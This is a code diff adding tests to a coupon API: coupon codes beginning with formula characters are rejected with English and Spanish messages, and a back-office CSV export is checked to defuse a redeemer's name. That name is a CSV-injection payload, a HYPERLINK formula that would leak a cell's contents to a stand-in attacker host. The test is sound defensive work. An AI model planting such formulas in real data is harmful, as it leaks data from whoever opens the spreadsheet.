@@ -1,4 +1,5 @@
 import { beforeAll, describe, expect, it } from 'vitest';
+import { codesCsv } from '../../backoffice/src/resources/coupons/codesCsv.ts';
 import { connectionOf } from '../../models/columns.ts';
 import { Coupon } from '../../models/index.ts';
 import { expectError } from './helpers/assert.ts';
@@ -63,6 +64,26 @@ describe('/api/coupons: params and permissions', () => {
       422,
       'VALIDATION_ERROR',
       'code',
+    );
+    // A code a spreadsheet would run as a formula (CSV injection) is refused, in the user's language.
+    for (const code of ['-CMD', '=CMD', '+CMD', '@CMD', '\t=CMD', '\r-CMD']) {
+      const res = await call('POST', '/api/coupons', {
+        token: t,
+        body: { productId: product.id, discountPercent: 10, code },
+        lang: 'en',
+      });
+      expectError(res, 422, 'VALIDATION_ERROR', 'code');
+      expect(res.body.error.fields).toEqual([
+        { field: 'code', message: 'must not start with =, +, -, @, a tab or a line break' },
+      ]);
+    }
+    const es = await call('POST', '/api/coupons', {
+      token: t,
+      body: { productId: product.id, discountPercent: 10, code: '-CMD' },
+      lang: 'es',
+    });
+    expect(es.body.error.fields[0].message).toBe(
+      'no puede empezar por =, +, -, @, un tabulador ni un salto de línea',
     );
     const gen = (body: unknown) => call('POST', '/api/coupons/generate', { token: t, body });
     expectError(await gen({ productId: product.id, count: 1001 }), 422, 'VALIDATION_ERROR', 'count');
@@ -385,6 +406,28 @@ describe('GET /api/coupons: who redeemed each code, and when', () => {
     const one = await call('GET', `/api/coupons/${used.id}`, { token: a.token });
     expect(one.body.lastRedemption).toMatchObject({ email: viewer.user.email, name: 'Vera Canje' });
     expectError(await call('GET', `/api/coupons/${used.id}`, { token: b.token }), 404, 'NOT_FOUND');
+  });
+
+  it("exports a redeemer named like a formula defused, in the back office's codes CSV", async () => {
+    const product = await createProduct(a.channel, { status: 'private' });
+    const gen = await call('POST', '/api/coupons/generate', {
+      token: a.token,
+      body: { productId: product.id, count: 1 },
+    });
+    const [code] = gen.body.codes as string[];
+    const attacker = await quickUser('USER', {
+      name: '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")',
+      surname: '',
+    });
+    expect((await redeem(attacker.token, code)).status).toBe(200);
+    const rows = [...(await byId(a.token, product.id)).values()];
+    const lines = codesCsv(rows).split('\r\n');
+    const line = lines.find((l) => l.startsWith(`${code},`));
+    expect(line).toContain(
+      `,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Ver"")",${attacker.user.email},`,
+    );
+    // No cell of the file starts with a formula character (outside a defusing apostrophe).
+    expect(line?.split(',').some((cell) => /^"?[=+@]/.test(cell))).toBe(false);
   });
 
   it('a coupon with stock counts its uses and names the latest, marked while its payment is pending', async () => {
